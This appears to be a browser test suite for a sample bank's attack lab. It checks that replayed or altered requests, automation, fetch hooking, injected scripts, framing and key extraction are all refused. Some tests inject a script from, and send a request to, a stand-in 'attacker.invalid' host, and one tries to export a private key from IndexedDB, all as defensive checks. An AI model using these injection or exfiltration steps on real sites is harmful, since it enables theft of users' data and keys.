import { afterAll, afterEach, beforeAll, beforeEach, expect, it } from 'vitest';
import type { Page } from 'playwright-core';
import { DataSource } from 'typeorm';
import { DEBUGGER_WORKER } from 'nestjs-tab/defender/web';
import { Account } from '../../../sample/bank/database/entities.js';
import { describeBrowser, openBrowser, type TestBrowser } from '../../utils/browser.js';
import {
  buildPage,
  lineOf,
  openLab,
  press,
  signIn,
  startLab,
  type BuiltPage,
  type LabBank,
  type LabPage,
  type ShownStep,
} from './lab.harness.js';

/** What Bob has, in cents: money that really moved. */
async function bobsBalance({ app }: LabBank): Promise<number> {
  const { balance } = await app.get(DataSource).manager.findOneByOrFail(Account, { id: 'bob-current' });
  return balance;
}

const badge = (page: Page): Promise<string> => page.locator('#device-badge').innerText();
const idShown = (page: Page): Promise<string> => page.locator('#device-instance').innerText();
const move = async (page: Page): Promise<string> => {
  const message = page.locator('#bank-message');
  await page.getByRole('button', { name: 'Move money' }).click();
  await message.filter({ hasText: /moved/i }).waitFor();
  return message.innerText();
};

/** Everything that stands on an attack's card, the bank's record of it, and cents that moved. */
interface Expectation {
  readonly name: string;
  readonly steps: readonly ShownStep[];
  readonly recorded: readonly string[];
  readonly moved: number;
}

const same = (answer: string): ShownStep => [answer, answer];

const WHILE_TRUSTED: readonly Expectation[] = [
  {
    name: 'Replay a request',
    steps: [same('200'), same('401 replayed_token')],
    recorded: ['GET /accounts accepted', 'GET /accounts replayed_token'],
    moved: 0,
  },
  {
    name: 'Replay a transfer',
    steps: [same('201'), same('401 use_tab_nonce')],
    recorded: ['POST /transfers accepted', 'POST /transfers use_tab_nonce'],
    moved: 100,
  },
  {
    name: 'Use the access token in a bot',
    steps: [same('401 missing_token')],
    recorded: ['POST /transfers missing_token'],
    moved: 0,
  },
  {
    name: 'Use it in another enrolled app',
    steps: [same('401 invalid_session')],
    recorded: ['GET /accounts invalid_session'],
    moved: 0,
  },
  {
    name: 'Change the amount on the way',
    steps: [same('201'), same('401 request_mismatch')],
    recorded: ['POST /transfers accepted', 'POST /transfers request_mismatch'],
    moved: 100,
  },
  {
    name: 'Make tokens for later',
    steps: [same('201'), same('201'), same('401 use_tab_nonce')],
    recorded: ['POST /transfers accepted', 'POST /transfers accepted', 'POST /transfers use_tab_nonce'],
    moved: 200,
  },
  {
    name: 'Set the clock ahead',
    steps: [same('201'), same('401 stale_token')],
    recorded: ['POST /transfers accepted', 'POST /transfers stale_token'],
    moved: 100,
  },
  {
    name: 'Drive the page by a robot',
    steps: [same('403 insufficient_trust'), same('201')],
    recorded: ['POST /transfers insufficient_trust', 'POST /transfers accepted'],
    moved: 100,
  },
  {
    name: 'Turn back the time in the page',
    steps: [same('403 insufficient_trust'), same('201')],
    recorded: ['POST /transfers insufficient_trust', 'POST /transfers accepted'],
    moved: 100,
  },
];

describeBrowser('the attack lab', () => {
  let built: BuiltPage;
  let bank: LabBank;
  let browser: TestBrowser;
  let lab: LabPage;
  let page: Page;
  beforeAll(async () => {
    built = await buildPage();
    browser = await openBrowser({ ordinary: true });
  });
  afterAll(async () => {
    await browser?.close();
    built?.remove();
  });
  // Each bank has a port of its own, which is an origin of its own: the browser knows nothing of those before.
  beforeEach(async () => {
    bank = await startLab(built.folder);
    lab = await openLab(browser.context, bank.url);
    ({ page } = lab);
    await signIn(page);
  });
  afterEach(async () => {
    for (const each of browser?.context.pages() ?? []) await each.close();
    await bank?.app.close();
    expect(lab.complaints).toEqual([]);
  });

  it.each(WHILE_TRUSTED)('stops: $name', async ({ name, steps, recorded, moved }) => {
    const [before, mark] = [await bobsBalance(bank), bank.decisions.length];
    const shown = await press(page, name);
    expect(shown).toEqual({ verdict: '✓ The bank answered as expected', steps });
    // A client without a challenge is sent one and comes again, and the page looks at the balance when it is done.
    const lines = bank.decisions.slice(mark).map(lineOf);
    const isSetting = (line: string, index: number) =>
      line.endsWith(' use_tab_nonce') && lines[index + 1]?.startsWith(line.slice(0, -'use_tab_nonce'.length)) === true;
    expect(lines.filter((line, index) => !isSetting(line, index)).slice(0, recorded.length)).toEqual(recorded);
    expect((await bobsBalance(bank)) - before).toBe(moved);
    expect(await badge(page)).toBe('Trusted device');
  });

  it.each([
    ['Drive the page by a robot', 'automation'],
    ['Turn back the time in the page', 'time-spoof'],
  ])('%s: found %s', async (name, threat) => {
    await press(page, name);
    const refused = bank.decisions.filter(({ code }) => code === 'insufficient_trust');
    expect(refused.map(({ threats }) => threats)).toEqual([[threat]]);
  });

  it('suspends a page whose fetch is hooked, whatever it says later', async () => {
    const before = await bobsBalance(bank);
    const { verdict, steps } = await press(page, 'Hook fetch in the page');
    expect(verdict).toContain('as expected');
    expect(steps).toEqual([
      same('403 insufficient_trust'),
      same('403 instance_suspended'),
      same('403 instance_suspended'),
    ]);
    const [breach] = await bank.instances.breaches();
    expect(breach).toMatchObject({ threats: ['hooking'], action: 'suspend' });
    expect(await bank.instances.get(breach?.instanceId ?? '')).toMatchObject({
      status: 'suspended',
      suspendedBy: ['hooking'],
    });
    expect(await badge(page)).toBe('Device suspended');
    expect(await page.locator('#broken').innerText()).toContain('Suspended');
    expect(await bobsBalance(bank)).toBe(before);
  });

  it('starts over after a suspension, as a device that the bank has never seen', async () => {
    const suspended = await idShown(page);
    await press(page, 'Hook fetch in the page');
    const { steps } = await press(page, 'Start over with a new key');
    expect(steps).toEqual([same('403 instance_suspended'), same('enrolled'), same('200'), same('201')]);
    expect(await badge(page)).toBe('Trusted device');
    expect(await idShown(page)).not.toBe(suspended);
    expect((await bank.instances.list()).map(({ status }) => status).sort()).toEqual(['active', 'suspended']);
    expect(await press(page, 'Replay a request')).toMatchObject({ verdict: '✓ The bank answered as expected' });
  });

  it('shows a revoked device as revoked, also when it is loaded anew', async () => {
    const { steps } = await press(page, 'Revoke this device');
    expect(steps).toEqual([same('204'), same('403 instance_revoked'), same('403 instance_revoked')]);
    expect((await bank.instances.list()).map(({ status }) => status)).toEqual(['revoked']);
    expect(await badge(page)).toBe('Device revoked');
    await page.reload();
    await page.getByText('Device revoked').waitFor();
    expect(await page.locator('#broken').innerText()).toContain('this key is refused for ever');
  });

  it('does not attack with a device that is refused anyway', async () => {
    await press(page, 'Revoke this device');
    const mark = bank.decisions.length;
    const button = page.getByRole('button', { name: 'Try it Replay a transfer' });
    expect(await button.getAttribute('aria-disabled')).toBe('true');
    // Still there for the keyboard: whoever presses it is told why nothing happens.
    await button.focus();
    await page.keyboard.press('Enter');
    const note = page.locator('#outcome-replay-transfer', { hasText: 'start over with a new key first' });
    await note.waitFor();
    expect(bank.decisions).toHaveLength(mark);
  });

  it('starts over after a revocation', async () => {
    await press(page, 'Revoke this device');
    const { steps } = await press(page, 'Start over with a new key');
    expect(steps).toEqual([same('retired'), same('enrolled'), same('200'), same('201')]);
    expect(await badge(page)).toBe('Trusted device');
    expect((await bank.instances.list()).map(({ status }) => status).sort()).toEqual(['active', 'revoked']);
  });

  it('runs all of them, and none goes another way', async () => {
    await page.getByRole('button', { name: 'Run all attacks' }).click();
    await page.locator('#lab-summary', { hasText: '12 of 12 went as expected.' }).waitFor();
    expect(await page.locator('.attack[data-state=matched]').count()).toBe(12);
    expect(await page.locator('.attack[data-state=unmatched]').count()).toBe(0);
  });

  it('moves money for its customer', async () => {
    const before = await bobsBalance(bank);
    expect(await move(page)).toBe('€25.00 moved to Bob, current (201).');
    expect((await bobsBalance(bank)) - before).toBe(2_500);
    expect(await page.locator('#accounts').innerText()).toContain('€99,975.00');
  });

  it('says what the bank says to an order that makes no sense', async () => {
    await page.getByLabel('Amount in euros').fill('-1');
    expect(await move(page)).toBe('Not moved: 400');
  });

  it('stays enrolled and signed in when it is loaded anew', async () => {
    const before = await idShown(page);
    await page.reload();
    await page.getByText('Signed in as alice').waitFor();
    expect(await idShown(page)).toBe(before);
    expect(await move(page)).toContain('(201)');
    expect(await bank.instances.list()).toHaveLength(1);
  });

  it('is one device in two tabs, which both move money', async () => {
    const other = await openLab(browser.context, bank.url);
    await signIn(other.page);
    for (const each of [page, other.page, page, other.page]) expect(await move(each)).toContain('(201)');
    expect(await idShown(other.page)).toBe(await idShown(page));
    expect(await bank.instances.list()).toHaveLength(1);
    expect(other.complaints).toEqual([]);
  });

  it('follows another tab to its new key', async () => {
    const other = await openLab(browser.context, bank.url);
    await signIn(other.page);
    await press(page, 'Revoke this device');
    await press(page, 'Start over with a new key');
    for (const each of [page, other.page]) expect(await move(each)).toContain('(201)');
    expect(await idShown(other.page)).toBe(await idShown(page));
    expect((await bank.instances.list()).map(({ status }) => status).sort()).toEqual(['active', 'revoked']);
  });

  it('starts over in each tab that was refused, with one new key for all', async () => {
    const other = await openLab(browser.context, bank.url);
    await signIn(other.page);
    await press(page, 'Revoke this device');
    expect(await move(other.page)).toBe('Not moved: 403 instance_revoked');
    expect(await badge(other.page)).toBe('Device revoked');
    await press(page, 'Start over with a new key');
    const { steps } = await press(other.page, 'Start over with a new key');
    expect(steps).toEqual([same('enrolled'), same('200'), same('201')]);
    expect(await badge(other.page)).toBe('Trusted device');
    for (const each of [page, other.page]) expect(await move(each)).toContain('(201)');
    expect(await idShown(other.page)).toBe(await idShown(page));
  });

  it('signs out', async () => {
    await page.getByRole('button', { name: 'Sign out' }).click();
    await page.locator('#bank-message', { hasText: 'Signed out (204).' }).waitFor();
    expect(await page.getByRole('button', { name: 'Sign in' }).isVisible()).toBe(true);
    expect(await page.locator('#lab-hint').innerText()).toContain('Sign in first');
    expect(bank.decisions.map(lineOf).at(-1)).toBe('DELETE /auth/session accepted');
  });

  it('shows live what the bank decides, in its order, and counts it', async () => {
    await press(page, 'Replay a request');
    await fetch(`${bank.url}/accounts`);
    const entries = page.locator('#feed li');
    await entries.filter({ hasText: 'missing_token' }).waitFor();
    await page.locator(`#feed li:nth-child(${bank.decisions.length})`).waitFor();
    const shown = await entries.evaluateAll((items) =>
      items.map((item) => [
        item.className,
        item.querySelector('.route')?.textContent,
        item.querySelector('.detail')?.lastChild?.textContent,
      ]),
    );
    expect(shown).toEqual(
      [...bank.decisions]
        .reverse()
        .map((decision) => [decision.outcome, `${decision.method} ${decision.route}`, decision.code ?? '']),
    );
    const accepted = bank.decisions.filter(({ outcome }) => outcome === 'accepted').length;
    const refused = bank.decisions.length - accepted;
    expect(await page.getByRole('img', { name: /^Of the last/ }).getAttribute('aria-labelledby')).toBe('chart-text');
    expect(await page.locator('#chart-text').innerText()).toBe(
      `Of the last ${bank.decisions.length} decisions, ${accepted} accepted and ${refused} refused`,
    );
    expect(await page.locator('#chart rect.accepted').count()).toBe(accepted);
    expect(await page.locator('#chart rect.refused').count()).toBe(refused);
  });

  it('shows the same again after it was loaded anew', async () => {
    await press(page, 'Replay a request');
    const mark = bank.decisions.length;
    const shown = () => page.locator('#feed .route, #feed .detail').allTextContents();
    await page.locator(`#feed li:nth-child(${mark})`).waitFor();
    const before = await shown();
    await page.reload();
    await page.getByText('Signed in as alice').waitFor();
    await page.locator(`#feed li:nth-child(${bank.decisions.length})`).waitFor();
    expect((await shown()).slice(-before.length)).toEqual(before);
  });

  it('has the worker that the library means', async () => {
    const response = await fetch(`${bank.url}/assets/debugger-worker.js`);
    expect(await response.text()).toBe(DEBUGGER_WORKER);
  });

  it('has all its probes looked at, and none finds anything', async () => {
    await move(page);
    expect(await page.locator('#device-probes').innerText()).toMatch(/^\d looked, none found anything$/);
    expect(bank.decisions.flatMap(({ threats }) => threats)).toEqual([]);
  });
});

describeBrowser('somebody else in the page of the attack lab', () => {
  let built: BuiltPage;
  let bank: LabBank;
  let browser: TestBrowser;
  let page: Page;
  let complaints: readonly string[];
  beforeAll(async () => {
    built = await buildPage();
    bank = await startLab(built.folder);
    browser = await openBrowser({ ordinary: true });
  });
  afterAll(async () => {
    await browser?.close();
    await bank?.app.close();
    built?.remove();
  });
  beforeEach(async () => {
    ({ page, complaints } = await openLab(browser.context, bank.url));
    await signIn(page);
  });
  afterEach(() => page.close());

  const add = (kind: 'text' | 'src', value: string): Promise<void> =>
    page.evaluate(
      ([name, content]) => {
        const script = document.createElement('script');
        Object.assign(script, { [name as string]: content });
        document.head.append(script);
      },
      [kind, value],
    );

  it('runs no code that stands in the page, and is seen all the same', async () => {
    await add('text', 'window.stolen = true');
    expect(await page.evaluate(() => 'stolen' in window)).toBe(false);
    expect(complaints.join()).toContain('Content Security Policy');
    expect(await move(page)).toBe('Not moved: 403 insufficient_trust');
    expect(bank.decisions.at(-1)?.threats).toEqual(['tamper']);
  });

  it('loads no code from elsewhere, and is seen all the same', async () => {
    await add('src', 'https://attacker.invalid/steal.js');
    expect(complaints.join()).toContain('Content Security Policy');
    expect(await move(page)).toBe('Not moved: 403 insufficient_trust');
    expect(bank.decisions.at(-1)?.threats).toEqual(['tamper']);
  });

  it('sends nothing elsewhere', async () => {
    const sent = page.evaluate(() =>
      fetch('https://attacker.invalid/').then(
        () => 'sent',
        () => 'stopped',
      ),
    );
    expect(await sent).toBe('stopped');
    expect(complaints.join()).toContain('Content Security Policy');
  });

  it('does not frame it', async () => {
    await page.evaluate(() => {
      const frame = document.createElement('iframe');
      frame.src = '/';
      document.body.append(frame);
    });
    await expect.poll(() => complaints.join()).toContain('frame-ancestors');
  });

  it('does not get the key out of the browser', async () => {
    const key = await page.evaluate(async () => {
      const database = await new Promise<IDBDatabase>((resolve, reject) => {
        const opening = indexedDB.open('nestjs-tab');
        opening.addEventListener('success', () => resolve(opening.result));
        opening.addEventListener('error', () => reject(new Error('not opened')));
      });
      const [store = ''] = database.objectStoreNames;
      const record = await new Promise<{ privateKey: CryptoKey }>((resolve) => {
        const reading = database.transaction(store).objectStore(store).get('key');
        reading.addEventListener('success', () => resolve(reading.result as { privateKey: CryptoKey }));
      });
      const exported = crypto.subtle.exportKey('jwk', record.privateKey);
      return exported.then(
        () => 'exported',
        (error: Error) => error.name,
      );
    });
    expect(key).toBe('InvalidAccessError');
  });
});
